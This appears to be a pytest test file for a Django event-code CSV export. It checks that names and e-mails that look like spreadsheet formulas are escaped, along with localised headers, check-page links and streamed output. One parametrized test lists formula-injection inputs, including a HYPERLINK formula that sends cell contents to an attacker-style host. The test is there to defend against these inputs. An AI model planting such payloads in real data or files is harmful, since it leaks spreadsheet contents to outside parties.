"""The provider's CSV of an event's codes opens in a spreadsheet as text, whatever attendees typed."""

import csv
import io

import pytest
from django.urls import reverse

from codes.format import generate_codes
from codes.models import IcpCode

from ..factories import EventFactory, MembershipFactory

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?"&A1;"Click")',
        "+7 999 123-45-67",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",  # full-width equals sign, folded to "=" by spreadsheet applications
    ],
)
def test_codes_export_escapes_formulas_in_names_and_emails(client, typed):
    event = EventFactory(organization=MembershipFactory().organization, approved=True)
    [code] = generate_codes(1)
    IcpCode.objects.create(code=code, event=event, holder_name=typed, holder_email=typed)
    client.force_login(event.organization.memberships.get().user)

    export = client.get(reverse("codes:codes_export", args=[event.pk])).getvalue().decode("utf-8-sig")

    [header, row] = list(csv.reader(io.StringIO(export), delimiter=";"))
    assert row[header.index("Имя владельца")] == "'" + typed
    assert row[header.index("E-mail владельца")] == "'" + typed


def test_codes_export_leaves_ordinary_names_as_they_are(client):
    event = EventFactory(organization=MembershipFactory().organization, approved=True)
    [code] = generate_codes(1)
    IcpCode.objects.create(code=code, event=event, holder_name="Петрова Мария", holder_email="maria@example.org")
    client.force_login(event.organization.memberships.get().user)

    export = client.get(reverse("codes:codes_export", args=[event.pk])).getvalue().decode("utf-8-sig")

    assert "Петрова Мария;maria@example.org" in export


def test_codes_export_gives_each_code_its_public_check_page(client):
    event = EventFactory(organization=MembershipFactory().organization, approved=True)
    [code] = generate_codes(1)
    icp = IcpCode.objects.create(code=code, event=event, holder_name="Петрова Мария", holder_email="m@example.org")
    client.force_login(event.organization.memberships.get().user)

    export = client.get(reverse("codes:codes_export", args=[event.pk])).getvalue().decode("utf-8-sig")

    [header, row] = list(csv.reader(io.StringIO(export), delimiter=";"))
    assert row[header.index("Страница проверки")] == f"http://testserver/verify/{icp.verify_token}/" == icp.verify_url()


def test_codes_export_speaks_the_language_of_the_interface(client, settings):
    event = EventFactory(organization=MembershipFactory().organization, approved=True)
    [code] = generate_codes(1)
    IcpCode.objects.create(code=code, event=event, holder_name="Петрова Мария", holder_email="m@example.org")
    client.force_login(event.organization.memberships.get().user)

    ru = client.get(reverse("codes:codes_export", args=[event.pk])).getvalue().decode("utf-8-sig")
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    en = client.get(reverse("codes:codes_export", args=[event.pk])).getvalue().decode("utf-8-sig")

    [ru_header, ru_row] = list(csv.reader(io.StringIO(ru), delimiter=";"))
    [en_header, en_row] = list(csv.reader(io.StringIO(en), delimiter=";"))
    assert ru_header[:3] == ["Код", "Статус", "Имя владельца"]
    assert en_header[:3] == ["Code", "Status", "Holder's name"]
    assert (ru_row[1], en_row[1]) == ("Выдан", "Issued")


def test_codes_export_streams_every_code_in_pieces_as_the_models_describe_them(
    client, monkeypatch, doctor, django_assert_max_num_queries
):
    """200,000 codes are tens of megabytes: the export is streamed in pieces of rows read from a cursor, and each
    row says what the code's model says (status, holder, activation, the other e-mail, the check page)."""
    from django.utils import timezone
    from django.utils.formats import date_format

    from codes import selectors
    from codes.format import format_code

    monkeypatch.setattr(selectors, "EXPORT_CHUNK_ROWS", 2)
    event = EventFactory(organization=MembershipFactory().organization, approved=True)
    codes = [
        IcpCode.objects.create(code=code, event=event, holder_name=f"Врач {n}", holder_email=f"d{n}@example.org")
        for n, code in enumerate(generate_codes(5))
    ]
    IcpCode.objects.filter(pk=codes[1].pk).update(
        status=IcpCode.Status.ACTIVATED, activated_by=doctor, activated_at=timezone.now()
    )
    IcpCode.objects.filter(pk=codes[3].pk).update(status=IcpCode.Status.REVOKED, revoked_at=timezone.now())
    client.force_login(event.organization.memberships.get().user)

    with django_assert_max_num_queries(12):
        response = client.get(reverse("codes:codes_export", args=[event.pk]))
        pieces = list(response.streaming_content)

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert len(pieces) == 1 + 3  # the header, then rows 2 by 2
    assert pieces[0].startswith("\ufeff".encode())
    [header, *rows] = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig")), delimiter=";"))
    assert header[0] == "Код"
    expected = []
    for code in IcpCode.objects.filter(event=event).select_related("activated_by").order_by("id"):
        activated = date_format(timezone.localtime(code.activated_at), "DATETIME_FORMAT") if code.activated_at else ""
        expected.append(
            [
                format_code(code.code),
                code.get_status_display(),
                code.holder_name,
                code.holder_email,
                activated,
                code.activated_by_email or "",
                "да" if code.email_mismatch else "",
                code.verify_url(),
            ]
        )
    assert rows == expected
    assert [row[1] for row in rows] == ["Выдан", "Активирован", "Выдан", "Отозван", "Выдан"]
    assert rows[1][5] == doctor.email
    assert rows[1][6] == "да"
